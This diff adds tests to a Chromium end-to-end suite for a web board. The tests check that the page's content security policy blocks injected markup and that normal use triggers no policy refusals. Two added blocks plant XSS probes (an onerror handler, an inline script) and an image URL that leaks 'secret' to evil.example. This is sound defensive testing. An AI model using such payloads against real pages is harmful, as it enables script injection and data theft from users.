@@ -34,6 +34,7 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
   let daemon: TestDaemon | null = null;
   let browser: Awaited<ReturnType<typeof launchBrowser>> | null = null;
   let page: Page;
+  const policyRefusals: string[] = [];
   // The daemon serves the observer's sessions itself, from FLOW_WIKI_DIR: an empty wiki here.
   const wiki = tempDir('maestro-wiki-');
   const wikiBefore = process.env.FLOW_WIKI_DIR;
@@ -51,6 +52,10 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     browser = await launchBrowser();
     page = await browser.context.newPage();
     page.on('pageerror', (err) => console.error('page error:', err.message));
+    // The page's content security policy (web.ts boardPolicy) must refuse nothing the board itself does.
+    page.on('console', (m) => {
+      if (m.text().includes('Content Security Policy')) policyRefusals.push(m.text());
+    });
   });
 
   afterAll(async () => {
@@ -104,6 +109,28 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     await card.getByText('Receipt: missing').waitFor();
     await session.getByRole('region', { name: hostile }).waitFor();
     expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    // Should hostile text ever become markup, the page's policy stops it (tried in a tab of its own, whose
+    // refusals are expected): an inline handler and a script tag run nothing, an image from elsewhere never loads.
+    const probe = await browser!.context.newPage();
+    await probe.goto(`${d.url}/`);
+    const refused = await probe.evaluate(
+      () =>
+        new Promise<string[]>((resolve) => {
+          const seen: string[] = [];
+          document.addEventListener('securitypolicyviolation', (e) => {
+            seen.push(e.effectiveDirective);
+            if (seen.length === 3) resolve(seen.sort());
+          });
+          const div = document.createElement('div');
+          div.innerHTML = '<img src="data:," onerror="window.__pwned=5"><img src="https://evil.example/leak.png?data=secret">';
+          const script = document.createElement('script');
+          script.textContent = 'window.__pwned = 6';
+          document.body.append(div, script);
+        }),
+    );
+    expect(refused).toEqual(['img-src', 'script-src-attr', 'script-src-elem']);
+    expect(await probe.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    await probe.close();
     expect(await card.getByRole('button', { name: 'Promote' }).isDisabled()).toBe(true);
     await session.getByRole('button', { name: 'Reconcile' }).click();
     await card.getByText('Receipt: fresh').waitFor();
@@ -166,6 +193,7 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     await page.getByRole('list', { name: 'Sessions' }).getByText('2 explorations').waitFor();
     await page.getByTestId('observer-updated').getByText('Updated at', { exact: false }).waitFor();
     await shot('13-observer-live');
+    expect(policyRefusals).toEqual([]);
   }
 
   async function drive() {
@@ -195,6 +223,28 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     await page.getByTestId('agent-sandbox').getByText(d.config.agentSandbox ? 'Agents sandboxed' : 'Agents run unsandboxed').waitFor();
     expect(await page.locator('[data-card]').filter({ hasText: '<img src=x' }).count()).toBe(1);
     expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    // Should hostile text ever become markup, the page's policy stops it (tried in a tab of its own, whose
+    // refusals are expected): an inline handler and a script tag run nothing, an image from elsewhere never loads.
+    const probe = await browser!.context.newPage();
+    await probe.goto(`${d.url}/`);
+    const refused = await probe.evaluate(
+      () =>
+        new Promise<string[]>((resolve) => {
+          const seen: string[] = [];
+          document.addEventListener('securitypolicyviolation', (e) => {
+            seen.push(e.effectiveDirective);
+            if (seen.length === 3) resolve(seen.sort());
+          });
+          const div = document.createElement('div');
+          div.innerHTML = '<img src="data:," onerror="window.__pwned=5"><img src="https://evil.example/leak.png?data=secret">';
+          const script = document.createElement('script');
+          script.textContent = 'window.__pwned = 6';
+          document.body.append(div, script);
+        }),
+    );
+    expect(refused).toEqual(['img-src', 'script-src-attr', 'script-src-elem']);
+    expect(await probe.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    await probe.close();
 
     // The board moves live: the parent reaches plan review in the Planning lane without a reload.
     const planningLane = page.locator('[data-lane="lane.planning"]');
@@ -306,6 +356,7 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     daemon = await startTestDaemon({ home, port, tickMs: 100 }, { demo: { autoApproveAfterMs: 60_000, autoReplyAfterMs: 60_000 }, plugins });
     await page.getByText('Reconnected; the board was reloaded').waitFor({ timeout: budget(30_000) });
     await page.locator(`[data-card="${parent!.id}"]`).waitFor();
+    expect(policyRefusals).toEqual([]);
   }
 });
 
